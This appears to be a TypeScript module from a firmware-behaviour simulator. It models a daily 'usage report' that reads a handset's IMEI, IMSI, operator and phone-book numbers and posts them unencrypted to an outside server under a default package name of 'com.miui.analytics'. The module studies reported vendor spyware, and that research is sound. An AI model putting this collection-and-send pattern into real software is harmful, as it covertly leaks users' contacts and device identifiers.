import type { Behaviour } from '../firmware-types.ts';
import type { App } from '../system.ts';
import type { AppContext } from './context.ts';
import { readPhoneBook } from './private-data.ts';
import { everyPeriod } from './schedule.ts';
import { dalvikAgent } from './user-agent.ts';

type Report = Extract<Behaviour, { kind: 'usage-report' }>;

/** Numbers of the phone book in one report at most, the newest. */
const mostNumbers = 500;

/**
 * User data once a day to the designer's server, as Nexusguard told of the vendor's own system (FIELD 1). What stood in it is not published:
 * here it is who the handset is and the numbers of its phone book, as JSON in plain HTTP. Without a contact it goes out all the same.
 */
export function createUsageReport(behaviour: Report, context: AppContext): App {
  const { system, network, random } = context;
  const log = (line: string) => context.log(`UserReport: ${line}`);

  const send = async (signal: AbortSignal) => {
    const { imei, imsi, operator } = system.telephony;
    const contacts = readPhoneBook(system.providers).map(({ number }) => number);
    const version = system.properties.get('ro.build.version.incremental');
    await network.request({
      method: 'POST',
      url: `http://${behaviour.host}/v1/user/daily`,
      headers: [
        ['Content-Type', 'application/json'],
        ['User-Agent', dalvikAgent(system.properties)],
        ['Host', behaviour.host],
        ['Connection', 'Keep-Alive'],
        ['Accept-Encoding', 'gzip'],
      ],
      body: Buffer.from(JSON.stringify({ version, imei, imsi, operator, contacts: contacts.slice(-mostNumbers) })),
      signal,
    });
  };
  const { periodSeconds, firstSeconds, package: name = 'com.miui.analytics' } = behaviour;
  return { package: name, ...everyPeriod({ system, random, log, periodSeconds, firstSeconds, task: send }) };
}
